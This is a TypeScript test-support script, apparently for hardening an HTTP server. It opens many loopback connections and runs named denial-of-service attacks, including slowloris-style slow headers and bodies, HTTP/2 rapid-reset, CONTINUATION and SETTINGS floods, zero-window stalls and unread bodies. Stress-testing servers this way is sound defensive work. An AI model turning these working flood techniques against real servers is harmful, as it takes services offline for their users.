import { connect, type Socket } from "node:net";
import { frame, headerBlock, headersFrame, PREFACE } from "../../support/raw-http2.ts";

/**
 * Opens hostile connections and keeps them as hostile as they can be, until it is ended:
 *
 *   node attacker.ts PORT HOST KIND=COUNT…
 *
 * Says how many are open once every connection was made and has said its first words, or when that takes too long: a
 * machine that has no processor left for it attacks itself enough. Loopback only.
 */

interface Attack {
  /** The first words. */
  begin(socket: Socket): void;
  /** Again and again, once a second; absent = nothing more is said. */
  goOn?(socket: Socket): void;
  /** Never reads what comes; default false. */
  readonly deaf?: true;
}

const [port = "0", host = "", ...wanted] = process.argv.slice(2);
/** Whatever happens, it ends by itself. */
const LIFE_MS = 300_000;
const OPENING_MS = 90_000;
const GO_ON_MS = 1_000;

const lines = (...text: string[]) => `${[...text, `Host: ${host}`].join("\r\n")}\r\n`;
const PIPELINED = Buffer.from(`${lines("GET /small HTTP/1.1")}\r\n`.repeat(25));
const BODY = Buffer.alloc(64 * 1024, "x");

const request = (method: string, path: string): [string, string][] => [
  [":method", method],
  [":scheme", "http"],
  [":path", path],
  [":authority", host],
];
const greeting = (...more: Buffer[]) => Buffer.concat([Buffer.from(PREFACE), frame("SETTINGS", 0), ...more]);
const NO_WINDOW = frame("SETTINGS", 0, { payload: Buffer.from([0, 4, 0, 0, 0, 0]) });
const RESET = (id: number) => frame("RST_STREAM", id, { payload: Buffer.from([0, 0, 0, 8]) });
const ids = (from: number, howMany: number) => Array.from({ length: howMany }, (_, at) => from + 2 * at);
/** A second and connection; four times as many keep one core of the server busy for minutes. */
const FLOOD_FRAMES = 50;
const STREAMS = 10;
const CONTINUATION = frame("CONTINUATION", 1, { payload: headerBlock([["x-filler", "y".repeat(8_000)]]) });
const SETTINGS = Buffer.concat(Array.from({ length: FLOOD_FRAMES }, () => frame("SETTINGS", 0)));

const lastIds = new WeakMap<Socket, number>();
function nextIds(socket: Socket, howMany: number): number[] {
  const from = (lastIds.get(socket) ?? -1) + 2;
  lastIds.set(socket, from + 2 * (howMany - 1));
  return ids(from, howMany);
}

const ATTACKS: Readonly<Record<string, Attack>> = {
  "h1-silent": { begin() {} },
  "h1-slow-head": {
    begin: (socket) => socket.write(lines("GET /small HTTP/1.1")),
    goOn: (socket) => socket.write("X-Filler: y\r\n"),
  },
  "h1-long-head": {
    begin: (socket) => socket.write(lines("GET /small HTTP/1.1")),
    goOn: (socket) => socket.write(`X-Filler: ${"y".repeat(16_000)}\r\n`),
  },
  "h1-slow-body": {
    begin: (socket) => socket.write(`${lines("POST /read HTTP/1.1", "Content-Length: 1000000")}\r\n`),
    goOn: (socket) => socket.write("x"),
  },
  "h1-unread-body": {
    begin(socket) {
      socket.write(`${lines("POST /unread HTTP/1.1", "Content-Length: 100000000")}\r\n`);
      for (let sent = 0; sent < 4; sent++) socket.write(BODY);
    },
  },
  "h1-never-reads": {
    begin: (socket) => socket.write(`${lines("GET /large HTTP/1.1")}\r\n`),
    deaf: true,
  },
  "h1-pipelines": {
    begin: (socket) => socket.write(PIPELINED),
    goOn: (socket) => {
      if (socket.writableLength === 0) socket.write(PIPELINED);
    },
    deaf: true,
  },
  "h2-silent": { begin: (socket) => socket.write(greeting()) },
  "h2-resets": {
    begin: (socket) => socket.write(greeting()),
    goOn(socket) {
      const burst = nextIds(socket, FLOOD_FRAMES).map((id) =>
        Buffer.concat([headersFrame(id, request("GET", "/small"), { endStream: true }), RESET(id)]),
      );
      if (socket.writableLength === 0) socket.write(Buffer.concat(burst));
    },
  },
  "h2-continuations": {
    begin: (socket) =>
      socket.write(greeting(headersFrame(1, request("GET", "/small"), { endHeaders: false }))),
    goOn: (socket) => {
      if (socket.writableLength === 0) socket.write(CONTINUATION);
    },
  },
  "h2-settings": {
    begin: (socket) => socket.write(greeting()),
    goOn: (socket) => {
      if (socket.writableLength === 0) socket.write(SETTINGS);
    },
    deaf: true,
  },
  "h2-no-window": {
    begin(socket) {
      const asked = nextIds(socket, STREAMS).map((id) =>
        headersFrame(id, request("GET", "/large"), { endStream: true }),
      );
      socket.write(greeting(NO_WINDOW, ...asked));
    },
  },
  "h2-unread-bodies": {
    begin(socket) {
      const frames = nextIds(socket, STREAMS).flatMap((id) => [
        headersFrame(id, request("POST", "/unread")),
        ...Array.from({ length: 4 }, () => frame("DATA", id, { payload: BODY.subarray(0, 16_000) })),
      ]);
      socket.write(greeting(...frames));
    },
  },
};

interface Attacker {
  readonly socket: Socket;
  readonly attack: Attack;
}

const open = new Set<Attacker>();

function attackOnce(attack: Attack): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(Number(port), "127.0.0.1", () => {
      if (attack.deaf) socket.pause();
      else socket.resume();
      attack.begin(socket);
      resolve();
    });
    const attacker = { socket, attack };
    open.add(attacker);
    socket.on("error", () => resolve());
    socket.on("close", () => open.delete(attacker));
  });
}

const queue = wanted.flatMap((text) => {
  const [kind = "", count] = text.split("=");
  const attack = ATTACKS[kind];
  if (attack === undefined) throw new Error(`no attack ${kind}; there are ${Object.keys(ATTACKS).join(" ")}`);
  return Array.from({ length: Number(count) }, (_, at) => ({ attack, at: at / Number(count) }));
});
// All kinds side by side, from the first connection to the last.
queue.sort((one, other) => one.at - other.at);
const openedMs = performance.now() + OPENING_MS;
const lane = async (): Promise<void> => {
  for (let next = queue.shift(); next && performance.now() < openedMs; next = queue.shift())
    await attackOnce(next.attack);
};
setInterval(() => {
  for (const { socket, attack } of open) if (socket.writable) attack.goOn?.(socket);
}, GO_ON_MS);
setTimeout(() => process.exit(), LIFE_MS);
await Promise.all(Array.from({ length: 16 }, lane));
console.log(open.size);
